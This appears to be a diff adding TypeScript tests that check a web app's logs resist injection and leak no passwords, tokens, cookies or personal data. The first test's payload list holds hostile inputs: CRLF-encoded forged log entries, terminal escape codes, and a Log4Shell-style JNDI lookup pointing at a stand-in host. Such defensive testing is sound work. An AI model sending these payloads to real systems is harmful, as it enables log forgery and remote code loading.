@@ -1,0 +1,131 @@
+import pino from 'pino';
+import supertest from 'supertest';
+import { apiPaths, paths } from '../../data/paths.ts';
+import { createApp } from '../../server/app.ts';
+import { readConfig } from '../../server/config.ts';
+import { loggedError } from '../../server/logging.ts';
+import { createStartLink } from '../../server/sign-in/start-link.ts';
+import { adminPassword, adminToken, asConsumer, cookieOf, fromOwnPage } from '../support/api-app.ts';
+import { aContactMessage, aSubscription } from '../support/builders.ts';
+import { freshDatabase, type TestDatabase } from '../support/databases.ts';
+import { echoPage } from '../support/whole-app.ts';
+import { rawSite } from './raw.ts';
+
+let database: TestDatabase;
+beforeAll(async () => {
+  database = await freshDatabase('sqlite');
+}, 60_000);
+afterAll(() => database?.end());
+
+/** The site with a log as it is written: pieces of text. */
+function loggingSite(environment: Record<string, string> = {}) {
+  const written: string[] = [];
+  const log = pino(
+    { level: 'trace', base: null, serializers: { err: loggedError } },
+    { write: (text) => written.push(text) },
+  );
+  const config = readConfig({ ADMIN_PASSWORD: adminPassword, ADMIN_TOKEN: adminToken, ...environment });
+  const app = createApp({ config, db: database.db, log, pages: echoPage });
+  return { app, ask: supertest(app), lines: () => written.join('').split('\n').filter(Boolean), written };
+}
+
+test('whatever a visitor sends, a line of the log stays one line of JSON', async () => {
+  const { app, lines, written } = loggingSite({ TRUST_PROXY: 'loopback', LOG_ADDRESSES: 'full' });
+  const site = await rawSite(app);
+  const forged = '{"level":"fatal","msg":"forged"}';
+  const payloads = [
+    `"}${forged}`,
+    `%0a${forged}`,
+    `%0d%0a${forged}`,
+    '%1b[31mred%1b[0m',
+    '\\u000a\\',
+    '\u0080\u0085\u009b31m',
+    `%e2%80%a8${forged}`,
+    '${jndi:ldap://evil.test/a}',
+    '%s%d%j%o',
+  ];
+  try {
+    for (const payload of payloads) {
+      const target = payload.replaceAll(' ', '%20').replaceAll('"', '%22');
+      for (const line of [
+        `GET /${target} HTTP/1.1\r\nHost: localhost`,
+        `GET /about?${target} HTTP/1.1\r\nHost: localhost`,
+        `GET /about HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${payload}\r\nReferer: ${payload}`,
+        `GET /about HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${payload}\r\nX-Request-Id: ${payload}`,
+        `GET /about HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: "},\t${forged}\r\nCookie: language=${payload}`,
+        `PROPFIND /${target} HTTP/1.1\r\nHost: localhost`,
+      ])
+        await site.exchange(`${line}\r\nConnection: close\r\n\r\n`);
+    }
+  } finally {
+    await site.end();
+  }
+  for (const piece of written) expect(piece.match(/\n/g)).toHaveLength(1);
+  const parsed = lines().map((line) => JSON.parse(line) as Record<string, unknown>);
+  expect(parsed.length).toBeGreaterThanOrEqual(payloads.length * 4);
+  for (const line of parsed) expect(line.msg).not.toBe('forged');
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the test's purpose
+  for (const line of lines()) expect(line).not.toMatch(/[\u0000-\u001f\u007f]/);
+});
+
+test('no password, token, cookie, address or message stands in the log, at any level', async () => {
+  const { ask, lines } = loggingSite();
+  const wrong = 'a password that is wrong';
+  const message = aContactMessage({ message: 'what nobody else may read', lastName: 'Verschwiegen' });
+  const link = await createStartLink({ db: database.db });
+  await ask.post(apiPaths.contact).send(message);
+  await ask.post(apiPaths.contact).send({ ...message, subject: 'bad' });
+  await ask
+    .post(apiPaths.contact)
+    .type('form')
+    .send({ ...message, page: '/contact', lang: 'de' });
+  await ask.post(apiPaths.subscribe).send(aSubscription());
+  await ask.post(apiPaths.subscribe).send(aSubscription());
+  await ask.post(apiPaths.session).send({ password: wrong });
+  await ask.post(apiPaths.session).type('json').send(`{"password":"${wrong}`);
+  const cookie = cookieOf(
+    await ask.post(apiPaths.session).set(fromOwnPage()).send({ password: adminPassword }),
+  );
+  await ask.get(link);
+  for (const query of ['', '?format=csv', `?q=${message.lastName}`, '?limit=x'])
+    await ask.get(`${apiPaths.messages}${query}`).set({ cookie });
+  await ask.get(`${apiPaths.person}?email=${message.email}`).set(asConsumer);
+  await ask.get(`/${message.email}/${encodeURIComponent(message.email)}`);
+  await ask.get(apiPaths.messages).set('authorization', 'Bearer a-token-that-is-wrong');
+  await ask.get(paths.contact).set({ cookie });
+  await ask.delete(apiPaths.session).set(fromOwnPage(cookie));
+
+  const text = lines().join('\n');
+  const secrets = [
+    wrong,
+    adminPassword,
+    adminToken,
+    'a-token-that-is-wrong',
+    cookie.replace(/^.*=/, ''),
+    link.replace(/^.*=/, ''),
+    message.email,
+    message.lastName,
+    message.message,
+    aSubscription().email,
+  ];
+  for (const secret of secrets) expect([secret, text.includes(secret)]).toEqual([secret, false]);
+  for (const event of ['sign-in', 'sign-out', 'export', 'person-export'])
+    expect(text).toContain(`"event":"${event}"`);
+});
+
+test('a request without permission is in the log, with its status and client', async () => {
+  const { ask, lines } = loggingSite();
+  await ask.get(apiPaths.messages);
+  await ask.delete(`${apiPaths.person}?email=a@post.example`);
+  await ask.post(apiPaths.session).set('origin', 'https://evil.test').send({ password: adminPassword });
+  const requests = lines().map((line) => JSON.parse(line));
+  expect(requests.map(({ status }) => status)).toEqual([401, 401, 403]);
+  for (const line of requests) {
+    expect(line).toMatchObject({
+      msg: 'request',
+      method: expect.any(String),
+      path: expect.stringMatching(/^\/api\//),
+    });
+    expect([typeof line.id, typeof line.client, typeof line.time]).toEqual(['string', 'string', 'number']);
+  }
+});
